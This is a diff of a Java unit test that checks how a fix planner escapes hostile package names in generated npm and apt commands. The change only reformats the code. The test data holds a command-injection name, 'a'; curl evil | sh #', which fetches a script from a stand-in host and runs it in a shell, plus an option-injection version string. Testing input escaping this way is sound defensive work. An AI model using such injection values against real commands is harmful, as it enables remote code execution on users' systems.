@@ -54,12 +54,7 @@ class FixPlanTest {
 
     @Test
     void aHostileNameCannotLeaveItsWord() {
-        assertThat(
-                        plan(
-                                fixed(
-                                        "CVE-1",
-                                        MadeUp.npm("a'; curl evil | sh #", "1.0.0", "a"),
-                                        "1.0.1")))
+        assertThat(plan(fixed("CVE-1", MadeUp.npm("a'; curl evil | sh #", "1.0.0", "a"), "1.0.1")))
                 .extracting(FixStep::command)
                 .containsExactly("npm install 'a'\\''; curl evil | sh #@1.0.1'");
         assertThat(plan(fixed("CVE-1", MadeUp.deb("a", "-o=Evil::X=1", "1"), "2")))
